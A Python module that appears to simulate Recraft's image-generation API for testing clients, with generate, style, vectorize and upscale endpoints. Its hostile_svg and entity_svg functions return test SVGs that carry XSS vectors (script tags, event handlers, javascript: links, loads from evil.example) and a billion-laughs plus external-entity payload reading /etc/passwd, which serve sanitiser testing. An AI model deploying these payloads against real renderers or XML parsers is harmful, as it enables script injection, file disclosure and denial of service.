"""Recraft (official format, upstream-api.md §13): six synchronous endpoints with real files.

* ``POST /recraft/v1/images/generations`` (JSON) draws 1-6 PNGs about the prompt, or SVGs for
  the vector styles (``vector_illustration``, ``icon``, or a custom style built on one), served
  from ``/files/`` (URLs expire like every simulated file) or inline as ``b64_json``.
* ``POST /recraft/v1/styles`` (multipart ``style`` + 1-5 images in ``files``; ``file`` and
  ``images`` are read too) answers ``{"id": "<uuid>"}``. Styles are remembered per token: a
  generation with that ``style_id`` works, an unknown one answers 404 ``style_not_found``.
* ``POST /recraft/v1/images/vectorize`` (multipart ``file``) answers a real SVG drawn from the
  picture's colours; ``removeBackground`` a PNG with alpha (the corner colour made
  transparent); ``clarityUpscale`` a PNG twice the size; ``generativeUpscale`` a WebP four
  times the size (at most 4096 pixels a side). All answer ``{"image": {"url"}}``.

Recraft's own errors are ``{"code": "<token>", "message": "..."}`` with a 4xx/5xx status; the
relay-level markers of specials.py (``[[error:429]]``, ``[[error:503]]``, ``[[error:quota]]``…)
answer in the relay's OpenAI shape as on every path. Markers come from ``prompt`` (generate) or,
for uploads, from a text comment of the image (a PNG ``Comment`` chunk) or the file's name:
  [[recraft:error]]        400 ``prompt_moderation`` (a native refusal)
  [[recraft:credits]]      400 ``not_enough_credits`` (a spent balance, in Recraft's words)
  [[recraft:5xx]]          500 ``internal_error``
  [[recraft:svg-hostile]]  vectorize: an SVG full of scripts, handlers, javascript: and external
                           links, foreignObject and CSS that loads things (see ``hostile_svg``)
  [[recraft:svg-entity]]   vectorize: an SVG with a DOCTYPE declaring entities (billion laughs
                           and an external entity; see ``entity_svg``)
  [[recraft:svg-broken]]   vectorize: an "SVG" that is not well-formed XML
  [[expire]], [[sleep=N]], [[slow]] as everywhere.
"""

from __future__ import annotations

import base64
import io
import re
import time
import uuid
from dataclasses import dataclass, field
from typing import Any
from xml.sax.saxutils import escape

from PIL import Image, ImageChops, UnidentifiedImageError

from studio.simulator import media
from studio.simulator.specials import (
    Markers,
    openai_special_error,
    parse_markers,
    pause,
    strip_markers,
)
from studio.simulator.state import Context
from studio.simulator.web import BadRequestBody, Request, Response, UploadedFile, json_response

STYLES = ("realistic_image", "digital_illustration", "vector_illustration", "icon", "any")
BASE_STYLES = STYLES[:4]
VECTOR_STYLES = ("vector_illustration", "icon")
MODELS = ("recraftv3", "recraft20b")
SIZES = (
    "1024x1024",
    "1365x1024",
    "1024x1365",
    "1536x1024",
    "1024x1536",
    "1820x1024",
    "1024x1820",
    "1024x2048",
    "2048x1024",
    "1434x1024",
    "1024x1434",
    "1024x1280",
    "1280x1024",
    "1024x1707",
    "1707x1024",
)
MAX_PROMPT = 1000
MAX_N = 6
MAX_STYLE_FILES = 5
MAX_IMAGE_BYTES = 5 * 1024 * 1024
MAX_IMAGE_SIDE = 4096
MAX_UPSCALED_SIDE = 4096
STYLE_FILE_FIELDS = ("files", "file", "images")


@dataclass
class CustomStyle:
    id: str
    owner: str
    base: str
    references: int
    created: float = field(default_factory=time.time)


class Styles:
    def __init__(self) -> None:
        self._styles: dict[str, CustomStyle] = {}

    def add(self, style: CustomStyle) -> CustomStyle:
        self._styles[style.id] = style
        return style

    def get(self, style_id: str, owner: str) -> CustomStyle | None:
        style = self._styles.get(style_id.strip())
        # A style belongs to the account that made it, as on Recraft.
        return style if style is not None and style.owner == owner else None


STYLES_STORE = Styles()


def recraft_error(status: int, code: str, message: str) -> Response:
    return json_response({"code": code, "message": message}, status)


def _native_marker_error(markers: Markers) -> Response | None:
    if markers.has("recraft:error"):
        return recraft_error(
            400,
            "prompt_moderation",
            "The request was rejected by the content moderation (simulated)",
        )
    if markers.has("recraft:credits"):
        return recraft_error(
            400, "not_enough_credits", "Not enough API units to perform the operation"
        )
    if markers.has("recraft:5xx"):
        return recraft_error(500, "internal_error", "Internal server error (simulated)")
    return None


# ---------------------------------------------------------------- generate


def _generation_problem(body: dict[str, Any]) -> Response | None:
    prompt = body.get("prompt")
    if not isinstance(prompt, str) or not prompt.strip():
        return recraft_error(400, "bad_request", "prompt is required")
    if len(prompt) > MAX_PROMPT:
        return recraft_error(
            400, "prompt_too_long", f"prompt must be at most {MAX_PROMPT} characters"
        )
    if body.get("style") and body.get("style_id"):
        return recraft_error(400, "bad_request", "style and style_id are mutually exclusive")
    if body.get("style") is not None and body.get("style") not in STYLES:
        return recraft_error(400, "invalid_style", f"unknown style {body.get('style')!r}")
    substyle = body.get("substyle")
    if substyle is not None and not (
        isinstance(substyle, str) and re.fullmatch(r"[a-z0-9_]{1,64}", substyle)
    ):
        return recraft_error(400, "invalid_substyle", f"unknown substyle {substyle!r}")
    if body.get("model") is not None and body.get("model") not in MODELS:
        return recraft_error(400, "invalid_model", f"unknown model {body.get('model')!r}")
    if body.get("size") is not None and body.get("size") not in SIZES:
        return recraft_error(400, "invalid_size", f"size {body.get('size')!r} is not supported")
    n = body.get("n", 1)
    if not isinstance(n, int) or isinstance(n, bool) or not 1 <= n <= MAX_N:
        return recraft_error(400, "invalid_n", f"n must be between 1 and {MAX_N}")
    if body.get("response_format", "url") not in ("url", "b64_json"):
        return recraft_error(400, "bad_request", "response_format must be url or b64_json")
    return _controls_problem(body.get("controls"))


def _controls_problem(controls: object) -> Response | None:
    if controls is None:
        return None
    if not isinstance(controls, dict):
        return recraft_error(400, "bad_request", "controls must be an object")
    colours = list(controls.get("colors") or [])
    background = controls.get("background_color")
    for colour in [*colours, *([background] if background is not None else [])]:
        rgb = colour.get("rgb") if isinstance(colour, dict) else None
        valid = (
            isinstance(rgb, list)
            and len(rgb) == 3
            and all(isinstance(c, int) and 0 <= c <= 255 for c in rgb)
        )
        if not valid:
            return recraft_error(400, "bad_request", "a color is {rgb: [r, g, b]}, 0 to 255")
    return None


async def generate(req: Request, ctx: Context) -> Response:
    try:
        body = req.json_object()
    except BadRequestBody as exc:
        return recraft_error(400, "bad_request", f"invalid JSON body: {exc}")
    raw_prompt = str(body.get("prompt") or "")
    markers = parse_markers(raw_prompt)
    error = openai_special_error(markers, str(body.get("model") or "recraftv3"))
    if error is not None:
        return error
    style: CustomStyle | None = None
    style_id = body.get("style_id")
    if style_id and not body.get("style"):
        style = STYLES_STORE.get(str(style_id), req.token)
        if style is None:
            return recraft_error(404, "style_not_found", f"style {style_id} not found")
    problem = _generation_problem(body)
    if problem is not None:
        return problem
    if (native := _native_marker_error(markers)) is not None:
        return native
    await pause(req, markers, ctx.config)
    await req.sleep(ctx.config.scaled(8.0))
    prompt = strip_markers(raw_prompt)
    width, height = (int(v) for v in str(body.get("size") or "1024x1024").split("x"))
    base = style.base if style else str(body.get("style") or "realistic_image")
    vector = base in VECTOR_STYLES
    label = f"Recraft · {style.base + ' (custom)' if style else base} · simulated"
    data = []
    for index in range(int(body.get("n", 1))):
        if vector:
            raw = picture_svg(prompt, width, height, index).encode()
            ext, mime = "svg", "image/svg+xml"
        else:
            picture = media.draw_picture(prompt, width, height, variant=index, label=label)
            raw, ext, mime = media.png(picture), "png", "image/png"
        item: dict[str, Any] = {"image_id": str(uuid.uuid4())}
        if body.get("response_format") == "b64_json":
            item["b64_json"] = base64.b64encode(raw).decode()
        else:
            name = ctx.files.add(raw, ext, mime, expired=markers.has("expire"))
            item["url"] = f"{req.base_url}/files/{name}"
        data.append(item)
    return json_response({"created": int(time.time()), "data": data})


def picture_svg(prompt: str, width: int, height: int, variant: int = 0) -> str:
    """A flat vector picture about the prompt: background, shapes in its colours, its words."""
    background = _hex(media.colour_for(prompt, variant))
    digest = media.digest(prompt, variant, "svg")
    shapes = []
    for i in range(4):
        cx, cy = digest[i * 3] / 255 * width, digest[i * 3 + 1] / 255 * height
        r = (0.1 + digest[i * 3 + 2] / 255 * 0.2) * min(width, height)
        fill = _hex(media.colour_for(prompt, variant * 10 + i + 1))
        shapes.append(f'<circle cx="{cx:.1f}" cy="{cy:.1f}" r="{r:.1f}" fill="{fill}"/>')
    words = escape(prompt[:80])
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 {width} {height}" '
        f'width="{width}" height="{height}">'
        f'<rect width="{width}" height="{height}" fill="{background}"/>'
        + "".join(shapes)
        + f'<text x="{width / 2:.0f}" y="{height / 2:.0f}" text-anchor="middle" '
        f'font-family="sans-serif" font-size="{max(12, min(width, height) // 18)}" '
        f'fill="#f5f5f5">{words}</text></svg>'
    )


def _hex(rgb: tuple[int, int, int]) -> str:
    return "#{:02x}{:02x}{:02x}".format(*rgb)


# ---------------------------------------------------------------- styles


async def create_style(req: Request, ctx: Context) -> Response:
    try:
        fields, parts = read_multipart(req)
    except BadRequestBody as exc:
        return recraft_error(400, "bad_request", str(exc))
    uploads = [upload for name, upload in parts if name in STYLE_FILE_FIELDS]
    markers = parse_markers(*(_upload_marker_text(upload) for upload in uploads))
    error = openai_special_error(markers, "recraft")
    if error is not None:
        return error
    style = (fields.get("style") or [""])[0]
    if style not in BASE_STYLES:
        return recraft_error(400, "invalid_style", f"style must be one of {list(BASE_STYLES)}")
    if not 1 <= len(uploads) <= MAX_STYLE_FILES:
        return recraft_error(400, "bad_request", f"upload 1 to {MAX_STYLE_FILES} reference images")
    if sum(len(upload.data) for upload in uploads) > MAX_IMAGE_BYTES:
        return recraft_error(400, "bad_request", "the reference images exceed 5 MB in total")
    for upload in uploads:
        if media.image_info(upload.data) is None:
            return recraft_error(400, "invalid_image", f"{upload.filename} is not an image")
    if (native := _native_marker_error(markers)) is not None:
        return native
    await pause(req, markers, ctx.config)
    await req.sleep(ctx.config.scaled(3.0))
    created = STYLES_STORE.add(
        CustomStyle(id=str(uuid.uuid4()), owner=req.token, base=style, references=len(uploads))
    )
    return json_response({"id": created.id})


# ---------------------------------------------------------------- image operations


async def _image_operation(req: Request, ctx: Context, operation: str) -> Response:
    try:
        _fields, parts = read_multipart(req)
    except BadRequestBody as exc:
        return recraft_error(400, "bad_request", str(exc))
    upload = next((item for name, item in parts if name == "file"), None)
    markers = parse_markers(_upload_marker_text(upload) if upload else "")
    error = openai_special_error(markers, "recraft")
    if error is not None:
        return error
    if upload is None or not upload.data:
        return recraft_error(400, "bad_request", "file is required")
    if len(upload.data) > MAX_IMAGE_BYTES:
        return recraft_error(400, "invalid_image", "the image is larger than 5 MB")
    try:
        with Image.open(io.BytesIO(upload.data)) as opened:
            picture = opened.convert("RGBA")
    except (UnidentifiedImageError, OSError, ValueError):
        return recraft_error(400, "invalid_image", "the file is not a supported image")
    if max(picture.size) > MAX_IMAGE_SIDE:
        return recraft_error(
            400, "invalid_image", f"the image is larger than {MAX_IMAGE_SIDE} pixels a side"
        )
    if (native := _native_marker_error(markers)) is not None:
        return native
    await pause(req, markers, ctx.config)
    await req.sleep(ctx.config.scaled(5.0))
    raw, ext, mime = OPERATIONS[operation](picture, markers)
    name = ctx.files.add(raw, ext, mime, expired=markers.has("expire"))
    return json_response({"image": {"url": f"{req.base_url}/files/{name}"}})


def vectorized(picture: Image.Image, markers: Markers) -> tuple[bytes, str, str]:
    if markers.has("recraft:svg-hostile"):
        return hostile_svg().encode(), "svg", "image/svg+xml"
    if markers.has("recraft:svg-entity"):
        return entity_svg().encode(), "svg", "image/svg+xml"
    if markers.has("recraft:svg-broken"):
        return b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0', "svg", "image/svg+xml"
    return vector_from(picture).encode(), "svg", "image/svg+xml"


def vector_from(picture: Image.Image, cells: int = 12) -> str:
    """The picture traced as a mosaic of flat-coloured squares, in its own coordinates."""
    width, height = picture.size
    columns = max(1, min(cells, width))
    rows = max(1, min(cells, round(height * columns / width) or 1))
    small = picture.convert("RGB").resize((columns, rows), Image.Resampling.BOX)
    cell_w, cell_h = width / columns, height / rows
    squares = []
    for y in range(rows):
        for x in range(columns):
            pixel = small.getpixel((x, y))
            assert isinstance(pixel, tuple)
            squares.append(
                f'<rect x="{x * cell_w:.2f}" y="{y * cell_h:.2f}" width="{cell_w:.2f}" '
                f'height="{cell_h:.2f}" fill="{_hex((pixel[0], pixel[1], pixel[2]))}"/>'
            )
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 {width} {height}" '
        f'width="{width}" height="{height}"><g id="traced">' + "".join(squares) + "</g></svg>"
    )


def hostile_svg() -> str:
    """A vectorize result built to attack whoever shows it: every trick a sanitiser must undo,
    around shapes that must survive (the rect ``#keep`` and the circle ``#keep-circle``)."""
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<?xml-stylesheet href="https://evil.example/x.css"?>\n'
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        'viewBox="0 0 100 100" width="100" height="100" onload="alert(\'svg-onload\')">'
        "<script>alert('svg-script')</script>"
        '<script xlink:href="https://evil.example/x.js"/>'
        "<style>@import url(https://evil.example/y.css); rect { fill: url(https://evil.example/"
        "p.png) }</style>"
        '<defs><linearGradient id="grad"><stop offset="0" stop-color="#ff8800"/>'
        '<stop offset="1" stop-color="#0088ff"/></linearGradient></defs>'
        '<rect id="keep" x="10" y="10" width="80" height="80" fill="url(#grad)" '
        "onclick=\"alert('svg-onclick')\" OnMouseOver=\"alert('svg-mouse')\"/>"
        '<circle id="keep-circle" cx="50" cy="50" r="20" fill="#123456" '
        "style=\"stroke: #000; background: url('https://evil.example/track.gif'); "
        'behavior: url(evil.htc)"/>'
        '<a href="javascript:alert(\'svg-link\')"><path id="in-link" d="M10 10 L90 90" '
        'stroke="#000"/></a>'
        '<a xlink:href="JaVaScRiPt:alert(\'svg-xlink\')"><text x="5" y="95">click</text></a>'
        '<use xlink:href="https://evil.example/sprite.svg#icon"/>'
        '<use href="#keep"/>'
        '<image href="https://evil.example/beacon.png" width="1" height="1"/>'
        '<foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml">'
        "<iframe src=\"javascript:alert('svg-iframe')\"/><script>alert('svg-html')</script>"
        "</body></foreignObject>"
        '<set attributeName="href" to="javascript:alert(\'svg-set\')"/>'
        '<animate attributeName="href" values="javascript:alert(\'svg-animate\')"/>'
        '<feImage href="https://evil.example/f.png"/>'
        "</svg>"
    )


def entity_svg() -> str:
    """An SVG whose DOCTYPE declares entities: exponential expansion and an external file."""
    return (
        '<?xml version="1.0"?>\n'
        "<!DOCTYPE svg [\n"
        '  <!ENTITY lol "lol">\n'
        '  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">\n'
        '  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">\n'
        '  <!ENTITY secret SYSTEM "file:///etc/passwd">\n'
        "]>\n"
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">'
        "<text>&lol3;&secret;</text></svg>"
    )


def _upscale(picture: Image.Image, factor: int) -> Image.Image:
    scale = max(1.0, min(float(factor), MAX_UPSCALED_SIDE / max(picture.size)))
    size = (round(picture.width * scale), round(picture.height * scale))
    return picture.resize(size, Image.Resampling.LANCZOS)


def without_background(picture: Image.Image, markers: Markers) -> tuple[bytes, str, str]:
    """The corners' colour (the "background") made transparent, the rest opaque."""
    rgba = picture.convert("RGBA")
    w, h = rgba.size
    corners = [rgba.getpixel(xy) for xy in ((0, 0), (w - 1, 0), (0, h - 1), (w - 1, h - 1))]
    background = tuple(
        sum(int(c[i]) for c in corners if isinstance(c, tuple)) // 4 for i in range(3)
    )
    difference = ImageChops.difference(rgba.convert("RGB"), Image.new("RGB", rgba.size, background))
    alpha = difference.convert("L").point(lambda value: 0 if value < 16 else 255)
    rgba.putalpha(alpha)
    return media.png(rgba), "png", "image/png"


def clarity_upscaled(picture: Image.Image, markers: Markers) -> tuple[bytes, str, str]:
    return media.png(_upscale(picture, 2).convert("RGB")), "png", "image/png"


def generative_upscaled(picture: Image.Image, markers: Markers) -> tuple[bytes, str, str]:
    out = io.BytesIO()
    _upscale(picture, 4).convert("RGB").save(out, "WEBP", quality=80)
    return out.getvalue(), "webp", "image/webp"


OPERATIONS = {
    "vectorize": vectorized,
    "remove_background": without_background,
    "clarity_upscale": clarity_upscaled,
    "generative_upscale": generative_upscaled,
}


async def vectorize(req: Request, ctx: Context) -> Response:
    return await _image_operation(req, ctx, "vectorize")


async def remove_background(req: Request, ctx: Context) -> Response:
    return await _image_operation(req, ctx, "remove_background")


async def clarity_upscale(req: Request, ctx: Context) -> Response:
    return await _image_operation(req, ctx, "clarity_upscale")


async def generative_upscale(req: Request, ctx: Context) -> Response:
    return await _image_operation(req, ctx, "generative_upscale")


# ---------------------------------------------------------------- multipart with repeated files


def _upload_marker_text(upload: UploadedFile) -> str:
    return f"{upload.filename} {media.image_comment(upload.data)}"


_DISPOSITION_PARAM = re.compile(r';\s*([a-zA-Z*]+)="?([^";]*)"?')


def read_multipart(req: Request) -> tuple[dict[str, list[str]], list[tuple[str, UploadedFile]]]:
    """The form's fields and EVERY file part in order (web.parse_multipart keeps one file per
    name; a style's reference images share one name)."""
    content_type = req.headers.get("content-type", "")
    match = re.search(r'boundary="?([^";]+)"?', content_type)
    if not content_type.lower().startswith("multipart/form-data") or not match:
        raise BadRequestBody("expected multipart/form-data")
    delimiter = b"--" + match.group(1).encode("latin-1")
    fields: dict[str, list[str]] = {}
    files: list[tuple[str, UploadedFile]] = []
    for part in req.body.split(delimiter)[1:]:
        if part.startswith(b"--"):
            break
        head, sep, data = part.removeprefix(b"\r\n").partition(b"\r\n\r\n")
        if not sep:
            continue
        data = data.removesuffix(b"\r\n")
        headers: dict[str, str] = {}
        for line in head.decode("utf-8", "replace").split("\r\n"):
            key, _, value = line.partition(":")
            headers[key.strip().lower()] = value.strip()
        params = dict(_DISPOSITION_PARAM.findall(headers.get("content-disposition", "")))
        name = params.get("name", "")
        if not name:
            continue
        if "filename" in params:
            content_type_part = headers.get("content-type", "application/octet-stream")
            files.append((name, UploadedFile(params["filename"], content_type_part, data)))
        else:
            fields.setdefault(name, []).append(data.decode("utf-8", "replace"))
    return fields, files
